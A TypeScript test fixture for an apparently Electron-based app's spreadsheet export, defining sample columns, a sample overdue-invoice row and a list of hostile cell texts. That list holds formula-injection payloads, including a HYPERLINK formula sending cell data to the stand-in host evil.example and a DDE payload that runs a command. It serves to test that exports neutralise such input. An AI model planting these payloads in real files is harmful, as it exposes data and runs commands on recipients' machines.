import type { ExportColumn } from '../../../electron/engine/services/exports/columns.ts';
import { instant, plainDate } from '../../../shared/domain/dates.ts';
import { currencyCode, minorUnits } from '../../../shared/domain/money.ts';

export interface SampleRow {
  readonly name: string | null;
  readonly minor: number | null;
  readonly currency: string;
  readonly days: number | null;
  readonly due: string | null;
  readonly at: string | null;
}

export const SAMPLE_COLUMNS: readonly ExportColumn<SampleRow>[] = [
  { kind: 'text', header: 'Customer', value: (row) => row.name },
  {
    kind: 'money',
    header: 'Open',
    value: (row) =>
      row.minor === null ? null : { minor: minorUnits(row.minor), currency: currencyCode(row.currency) },
  },
  { kind: 'text', header: 'Currency', value: (row) => row.currency },
  { kind: 'integer', header: 'Days late', value: (row) => row.days },
  { kind: 'date', header: 'Due', value: (row) => (row.due === null ? null : plainDate(row.due)) },
  { kind: 'instant', header: 'Last touch', value: (row) => (row.at === null ? null : instant(row.at)) },
];

export function sampleRow(changes: Partial<SampleRow> = {}): SampleRow {
  return {
    name: 'Ostrander Pumps BV',
    minor: -123_450,
    currency: 'EUR',
    days: 62,
    due: '2026-09-20',
    at: '2026-11-19T16:02:00.000Z',
    ...changes,
  };
}

/** Texts that a spreadsheet would run, or that break a naive writer. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
] as const;
